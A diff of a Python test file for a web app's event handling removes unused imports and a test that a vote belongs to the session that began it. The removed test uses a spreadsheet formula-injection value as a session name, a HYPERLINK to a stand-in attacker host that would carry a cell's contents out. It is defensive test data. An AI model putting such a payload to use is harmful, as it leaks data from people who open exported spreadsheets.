@@ -5,8 +5,6 @@ import io
 import itertools
 import json
 import os
-import random
-import re
 import socket
 import threading
 import time
@@ -26,7 +24,6 @@ from starlette.testclient import TestClient
 from app import page
 from app.catalog import Catalog
 from app.guard import MAX_BODY_BYTES, MAX_LINE_LENGTH, MAX_TEXT_LENGTH, ShortLines, guarded
-from app.votes import VoteStore
 from tests.app.folders import make_run, make_scores
 from tests.app.visitor import LOCAL, Visitor
 
@@ -237,24 +234,6 @@ def test_events_that_the_page_does_not_send_are_refused_in_a_sentence(served, bo
     answer = connection.getresponse()
     assert answer.status == 400
     assert sentence in json.load(answer)["detail"]
-
-
-def test_a_vote_is_of_the_voter_who_began(served):
-    def click(name, *values, data=None):
-        event, _ = served.events(name)[-1]
-        return served.send(event, list(values), data)
-
-    event, values = served.events("frame-scores")[-1]
-    served.send(event, values)  # fills the list of scores
-    # The browser sends the name of its session, which may be anything.
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    for token in ("", "made up"):  # of no vote that has begun
-        click("vote-left", token, None, formula)
-    answer = click("vote-start", "scores", "", formula)
-    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', answer)
-    click("vote-left", token, None, data=formula)
-    (vote,) = VoteStore(Catalog(served.root), random.Random()).votes()
-    assert re.fullmatch("[0-9a-f]{16}", vote.session)
 
 
 @pytest.mark.parametrize(
